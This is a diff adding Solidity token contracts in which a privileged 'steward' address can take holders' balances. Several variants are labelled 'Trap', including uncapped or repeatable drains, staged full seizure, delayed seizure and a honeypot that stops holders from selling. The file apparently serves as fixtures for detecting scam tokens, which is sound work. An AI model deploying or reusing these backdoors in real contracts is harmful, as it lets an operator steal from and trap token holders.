@@ -1,0 +1,144 @@
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.20;
+
+import "./Ledger.sol";
+
+/// Its steward keeps a little of what holders have.
+abstract contract Trimmed is Ledger {
+    address internal immutable steward = address(0x51E3a0F4A1f8b2c3d4e5f60718293a4B5c6D7e80);
+    address private immutable pair;
+
+    constructor(IPairMaker factory, address coin) {
+        pair = factory.createPair(address(this), coin);
+        _make(msg.sender, 1_000_000 ether);
+    }
+
+    modifier his() {
+        require(msg.sender == steward, "steward");
+        _;
+    }
+
+    function _take(address from, uint256 parts) internal {
+        _move(from, steward, (balanceOf[from] * parts) / 10_000);
+    }
+}
+
+/// A hundredth of each holder, once.
+contract TrimsOnce is Trimmed {
+    mapping(address => bool) private done;
+
+    constructor(IPairMaker factory, address coin) Trimmed(factory, coin) {}
+
+    function trim(address from) external virtual his {
+        require(!done[from], "done");
+        done[from] = true;
+        _take(from, 100);
+    }
+}
+
+/// One percent a year for keeping it, as the steward wishes, and no more.
+contract TrimsByTheYear is Trimmed {
+    uint256 public parts;
+    mapping(address => uint256) private since;
+
+    constructor(IPairMaker factory, address coin) Trimmed(factory, coin) {
+        opened = block.timestamp - 120 days;
+    }
+
+    uint256 private immutable opened;
+
+    function setParts(uint256 next) external his {
+        require(next <= _most(), "parts");
+        parts = next;
+    }
+
+    function _most() internal pure virtual returns (uint256) {
+        return 100;
+    }
+
+    function trim(address from) external his {
+        uint256 began = since[from] == 0 ? opened : since[from];
+        since[from] = block.timestamp;
+        _take(from, (parts * (block.timestamp - began)) / 365 days);
+    }
+}
+
+/// Trap: three times the whole a year.
+contract TrimsByTheWeek is TrimsByTheYear {
+    constructor(IPairMaker factory, address coin) TrimsByTheYear(factory, coin) {}
+
+    function _most() internal pure override returns (uint256) {
+        return 300_000;
+    }
+}
+
+/// Trap: a hundredth, as often as the steward likes.
+contract TrimsOften is Trimmed {
+    constructor(IPairMaker factory, address coin) Trimmed(factory, coin) {}
+
+    function trim(address from) external his {
+        _take(from, 100);
+    }
+}
+
+/// Trap: a hundredth every other day.
+contract TrimsByTheDay is Trimmed {
+    mapping(address => uint256) private last;
+
+    constructor(IPairMaker factory, address coin) Trimmed(factory, coin) {}
+
+    function trim(address from) external his {
+        require(block.timestamp >= last[from] + 40 hours, "later");
+        last[from] = block.timestamp;
+        _take(from, 100);
+    }
+}
+
+/// Trap: a hundredth, and all of it once the steward has said so.
+contract TrimsUntilTold is TrimsOnce {
+    uint256 private stage;
+
+    constructor(IPairMaker factory, address coin) TrimsOnce(factory, coin) {}
+
+    function proceed(uint256 to) external his {
+        stage = to;
+    }
+
+    function trim(address from) external override his {
+        if (stage > 2) return _take(from, 10_000);
+        require(stage == 0, "stage");
+        stage = 1;
+        _take(from, 100);
+    }
+}
+
+/// Trap: a hundredth now, half of it behind five months.
+contract TrimsLater is Trimmed {
+    uint256 private immutable born = block.timestamp;
+    mapping(address => bool) private done;
+
+    constructor(IPairMaker factory, address coin) Trimmed(factory, coin) {}
+
+    function trim(address from) external his {
+        bool late = block.timestamp > born + 150 days;
+        require(late || !done[from], "done");
+        done[from] = true;
+        _take(from, late ? 5_000 : 100);
+    }
+}
+
+/// Trap: a hundredth, and behind that holders cannot sell.
+contract TrimsAndShuts is Trimmed {
+    uint256 private times;
+
+    constructor(IPairMaker factory, address coin) Trimmed(factory, coin) {}
+
+    function trim(address from) external his {
+        if (times++ == 0) _take(from, 100);
+    }
+
+    function _move(address from, address to, uint256 value) internal override {
+        require(times < 3 || from == steward, "shut");
+        super._move(from, to, value);
+    }
+}
